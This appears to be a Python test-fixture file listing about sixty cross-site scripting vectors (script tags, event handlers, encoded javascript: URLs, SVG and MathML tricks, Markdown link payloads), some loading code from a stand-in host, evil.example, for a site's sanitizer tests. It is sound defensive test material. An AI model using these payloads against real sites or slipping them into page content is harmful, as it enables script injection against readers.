"""Known ways to smuggle script into a page, for the safety tests (tests/test_safety.py).

Each is what a stranger's pull request could put in a page or a data field. They are written the way
they would be typed in Markdown or YAML text; none may reach a reader as something that runs.
"""

VECTORS = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="module">import("//evil.example")</script>',
    # Event handlers on many tags, mixed case, split across lines.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x\n  onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<div onpointerenter=alert(1)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</option></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<b\tonmouseover="alert(1)">x</b>',
    "<b/onmouseover=alert(1)>x</b>",
    # Dangerous URL schemes, encoded in many ways.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript%3Aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    # Frames, objects and other ways to run or load code.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<input type="image" src=x formaction="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    # SVG and MathML tricks.
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    # Markdown link, image and attribute-list syntax.
    "[click](javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( JAVASCRIPT:alert(1) )",
    "![image](javascript:alert(1))",
    "![image](data:text/html,<script>alert(1)</script>)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    'A paragraph\n{: onclick="alert(1)" }',
    '## Heading { onmouseover="alert(1)" }',
    "[link](https://example.org){ onclick=alert(1) }",
    # Protocol-relative address: loads from another host.
    "[x](//evil.example/page)",
]
